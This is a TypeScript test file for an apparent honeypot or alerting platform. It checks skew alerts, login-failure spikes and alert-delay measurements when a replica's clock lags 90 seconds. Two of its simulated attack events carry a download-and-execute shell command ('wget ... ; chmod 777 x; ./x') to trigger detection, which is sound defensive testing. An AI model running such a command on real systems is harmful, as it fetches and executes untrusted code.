import type { GoldenSignals, OpsAlert, SloDetail } from '@eviltwin/contract'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { openFeed } from '../../testing/test-feed.js'
import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
import { until } from '../../testing/until.js'

const BEHIND_MS = 90_000
const environment = { OPERATIONS_INTERVAL_SECONDS: '0.2' }

describe.each(inject('postgresServers'))('a replica with a clock 90 s behind on $version', (server) => {
  let api: TestPlatform
  let behind: TestPlatform
  let token: string
  beforeAll(async () => {
    api = await startTestPlatform(server, { environment })
    behind = await startTestPlatform(server, { environment, beside: api, now: () => Date.now() - BEHIND_MS })
    token = await api.login()
  })
  afterAll(async () => {
    await behind.close()
    await api.close()
  })

  const get = async <Answer>(path: string, from = api) =>
    (await (await from.call(path, { as: token })).json()) as Answer

  test('is among the replicas, with its skew, and an operational alert says so', async () => {
    const skews = await until(async () => {
      const { replicas } = await get<GoldenSignals>('/ops/signals')
      return replicas.length === 2 && replicas.map(({ clock_skew_ms }) => clock_skew_ms ?? 0)
    })
    const [smallest = 0, largest = 0] = skews.sort((a, b) => b - a)
    expect(Math.abs(smallest)).toBeLessThan(2_000)
    expect(Math.abs(largest + BEHIND_MS)).toBeLessThan(2_000)
    const alert = await until(async () => {
      const { items } = await get<{ items: OpsAlert[] }>('/ops/alerts')
      const found = items.find(({ id }) => id === 'clock-skew')
      return found?.state === 'firing' && found
    })
    expect(alert.value).toBeGreaterThan(85)
    expect(await (await behind.call('/metrics')).text()).toMatch(/^eviltwin_clock_skew_seconds -(89|90)/m)
  })

  test('is seen by the leader when its logins fail', async () => {
    for (let n = 0; n < 25; n += 1)
      await behind.call('/auth/login', {
        method: 'POST',
        body: JSON.stringify({ username: `nobody${n}`, password: 'wrong' }),
      })
    const spike = await until(async () => {
      const { items } = await get<{ items: OpsAlert[] }>('/ops/alerts')
      const found = items.find(({ id }) => id === 'auth-failure-spike')
      return found?.state === 'firing' && found
    })
    expect(Math.abs(Date.now() - Date.parse(spike.since ?? ''))).toBeLessThan(BEHIND_MS / 2)
  })

  test('raises alerts, notifies and counts minutes by the clock of the database', async () => {
    const alone = await startTestPlatform(server, {
      environment: { ...environment, OUTBOUND_ALLOWED_NETWORKS: '127.0.0.0/8' },
      now: () => Date.now() - BEHIND_MS,
    })
    const admin = await alone.login()
    await alone.call('/channels', {
      method: 'POST',
      as: admin,
      body: JSON.stringify({
        name: 'on call',
        settings: { type: 'webhook', url: 'http://127.0.0.1:9/', secret: 'a secret of 24 characters' },
      }),
    })
    const startedAt = Date.now()
    await alone.send(
      JSON.stringify({
        source_ip: '198.51.100.77',
        session: 's',
        occurred_at: new Date().toISOString(),
        command: 'wget http://192.0.2.1/x; chmod 777 x; ./x',
      }),
    )
    const items = async <Item>(path: string) =>
      ((await (await alone.call(path, { as: admin })).json()) as { items: Item[] }).items
    const [alert] = await until(async () => {
      const found = await items<{ raised_at: string; event_received_at: string }>('/alerts')
      return found.length > 0 && found
    })
    expect(Date.parse(alert?.raised_at ?? '')).toBeGreaterThanOrEqual(
      Date.parse(alert?.event_received_at ?? '') - 1_000,
    )
    const [delivery] = await items<{ created_at: string }>('/channels/deliveries')
    expect(Date.parse(delivery?.created_at ?? '')).toBeGreaterThan(startedAt - BEHIND_MS / 2)
    const signals = await alone.call('/ops/signals', { as: admin })
    expect(Date.parse(((await signals.json()) as GoldenSignals).to)).toBeGreaterThan(startedAt - 1_000)
    await alone.close()
  })

  test.each([
    ['receives the event', () => behind, () => api],
    ['has the analyst', () => api, () => behind],
  ])('does not change the measured delay where it %s', async (_what, receiver, sender) => {
    const delay = async () => (await get<SloDetail>('/slos/alert-delivery-delay')).percentile?.value_ms
    const before = (await get<SloDetail>('/slos/alert-delivery-delay')).measured.total
    const feed = await openFeed(sender(), token)
    await receiver().send(
      JSON.stringify({
        source_ip: `198.51.100.${before + 1}`,
        session: 's',
        occurred_at: new Date().toISOString(),
        command: 'wget http://192.0.2.1/x; chmod 777 x; ./x',
      }),
    )
    const [alert] = await feed.until(1)
    const age = Date.now() - Date.parse(alert?.event_received_at ?? '')
    expect(Math.abs(age)).toBeLessThan(BEHIND_MS / 2)
    feed.acknowledge(alert?.id ?? '')
    await until(async () => {
      await get('/slos', sender())
      return (await get<SloDetail>('/slos/alert-delivery-delay')).measured.total === before + 1
    })
    expect(await delay()).toBeLessThan(BEHIND_MS / 2)
    await feed.close()
  })
})
